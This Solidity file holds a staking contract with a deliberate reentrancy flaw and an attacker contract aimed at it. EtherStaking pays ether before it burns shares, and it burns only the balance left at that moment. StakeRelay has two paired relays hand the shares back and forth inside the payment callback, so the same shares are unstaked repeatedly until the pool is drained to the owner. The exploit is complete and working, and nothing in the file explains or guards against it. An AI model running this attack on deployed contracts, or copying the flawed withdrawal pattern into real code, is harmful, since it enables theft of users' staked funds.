// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {GenToken} from "Tokens.sol";

/// @notice Stake ether for transferable stake shares (a separate token contract, 1 share = 1 wei).
///         unstake pays the caller's share balance, then burns whatever the caller holds by then.
contract EtherStaking {
    GenToken public immutable shares;

    error NothingStaked();
    error PaymentFailed();

    constructor() {
        shares = new GenToken("Staked Ether", "stETHx");
    }

    function stake() external payable {
        shares.mint(msg.sender, msg.value);
    }

    function unstake() external {
        uint256 amount = shares.balanceOf(msg.sender);
        if (amount == 0) revert NothingStaked();
        (bool ok,) = msg.sender.call{value: amount}("");
        if (!ok) revert PaymentFailed();
        shares.burn(msg.sender, shares.balanceOf(msg.sender));
    }
}

/// @notice Attacker: two relays pass the shares to each other (through the share token) while
///         the staking contract pays, each unstaking the same shares again.
contract StakeRelay {
    address private immutable owner;
    EtherStaking private immutable staking;
    StakeRelay private partner;

    constructor(EtherStaking staking_) {
        owner = msg.sender;
        staking = staking_;
    }

    function pair(StakeRelay partner_) external {
        require(msg.sender == owner);
        partner = partner_;
    }

    function attack() external payable {
        staking.stake{value: msg.value}();
        relay();
        partner.sweep();
        sweep();
    }

    function relay() public {
        staking.unstake();
    }

    function sweep() public {
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {
        if (msg.sender != address(staking) || address(staking).balance < msg.value) return;
        staking.shares().transfer(address(partner), msg.value);
        partner.relay();
    }
}
